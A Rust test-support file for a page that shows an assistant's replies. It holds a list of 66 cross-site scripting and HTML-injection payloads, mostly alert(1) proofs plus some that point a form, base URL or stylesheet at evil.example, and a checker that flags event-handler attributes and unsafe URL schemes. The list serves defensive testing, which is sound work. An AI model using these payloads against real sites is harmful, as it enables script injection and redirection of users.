//! Texts that have broken out of pages elsewhere, and what a page is made of.

use std::collections::BTreeMap;

use scraper::{ElementRef, Html};

/// What someone might say to an assistant whose words are shown on a page.
pub(crate) const HOSTILE: [&str; 66] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><svg/onload=alert(1)>",
    "<!--<script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?php alert(1) ?><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "\" onmouseover=alert(1) x=\"",
    "x onclick=alert(1) y",
    "\"/><img src=x onerror=alert(1)><\"",
    "`><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</title><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</a><a href=\"javascript:alert(1)\">x",
    "</p></div></main></body></html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example/><button>Save</button></form>",
    "<button formaction=javascript:alert(1)>Save</button>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript://example.com/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://good.example\" onclick=\"alert(1)",
    "[x](javascript:alert(1)) <javascript:alert(1)> ![x](https://evil.example/x.gif)",
    "[x](https://a.example/ \"t\\\" onmouseover=alert(1) \")",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &quot;&apos;&amp;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\ud800 \\udfff \\x3cscript\\x3e \\\\\" \\",
    "a\u{2028}b\u{2029}c</script>",
    "NUL \0<script\0>alert(1)</script>",
    "\u{202e}\u{2066}<script>\u{2069}\u{200f}</script>",
    "\u{feff}<\u{200b}script>ｓｃｒｉｐｔ ＜script＞alert(1)＜/script＞",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)} <%= 1 %>",
];

/// How often each kind of element, and of attribute of an element, is there.
pub(crate) type Kinds = BTreeMap<(String, Option<String>), usize>;

/// What a browser makes of a page, but for what Markdown and comparisons of texts become: these are looked at by themselves.
pub(crate) fn kinds(page: &str) -> Kinds {
    let mut kinds = Kinds::new();
    for element in elements(page).iter().filter(|element| !is_rich(element)) {
        count(&mut kinds, element);
    }
    kinds
}

fn count(kinds: &mut Kinds, element: &Element) {
    *kinds.entry((element.name.clone(), None)).or_default() += 1;
    for (name, _) in &element.attributes {
        *kinds.entry((element.name.clone(), Some(name.clone()))).or_default() += 1;
    }
}

/// An element as a browser sees it.
#[derive(Debug)]
pub(crate) struct Element {
    pub(crate) name: String,
    pub(crate) attributes: Vec<(String, String)>,
    /// The class of the nearest element around it that shows rich text.
    pub(crate) within: Option<&'static str>,
}

fn is_rich(element: &Element) -> bool {
    element.within.is_some()
}

pub(crate) fn elements(page: &str) -> Vec<Element> {
    let page = Html::parse_document(page);
    page.root_element().descendent_elements().map(|element| described(&element)).collect()
}

fn described(element: &ElementRef<'_>) -> Element {
    let value = element.value();
    let around = element.ancestors().filter_map(ElementRef::wrap).find_map(|outer| {
        let classes = outer.value().attr("class").unwrap_or_default();
        ["prose", "raw"].into_iter().find(|rich| classes.split_whitespace().any(|class| class == *rich))
    });
    Element {
        name: value.name().to_owned(),
        attributes: value.attrs().map(|(name, text)| (name.to_owned(), text.to_owned())).collect(),
        within: around,
    }
}

/// Nothing of an element runs, loads from elsewhere or leads astray.
#[track_caller]
pub(crate) fn is_harmless(element: &Element, about: &str) {
    for (name, value) in &element.attributes {
        assert!(!name.starts_with("on"), "{about}: {element:?}");
        let is_address = matches!(&**name, "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "srcset");
        if is_address {
            // As a browser reads it: without blanks and control characters before the scheme or within it.
            let address: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let scheme = address.split_once(':').map(|(scheme, _)| scheme.to_lowercase());
            let is_relative = scheme.as_ref().is_none_or(|scheme| scheme.contains(['/', '?', '#']));
            let is_known = scheme.is_some_and(|scheme| matches!(&*scheme, "http" | "https" | "mailto"));
            let is_own_icon = element.name == "link" && value.starts_with("data:image/svg+xml,%3Csvg");
            assert!(is_relative || is_known || is_own_icon, "{about}: {element:?}");
            assert!(!address.starts_with("//"), "{about}: {element:?}");
        }
    }
}

#[test]
fn what_breaks_out_is_seen() {
    let page = |text: &str| format!("<!doctype html><body><p title=\"{text}\">{text}</p><div class=prose>{text}</div>");
    let harmless = kinds(&page("text"));
    assert_eq!(kinds(&page("other")), harmless);
    for text in ["<b>", "\" onclick=\"alert(1)", "</p><script>alert(1)</script>"] {
        assert_ne!(kinds(&page(text)), harmless, "{text}");
    }
    let rich = elements(&page("x <i>y</i>"));
    assert!(rich.iter().any(|element| element.name == "i" && element.within == Some("prose")));
}
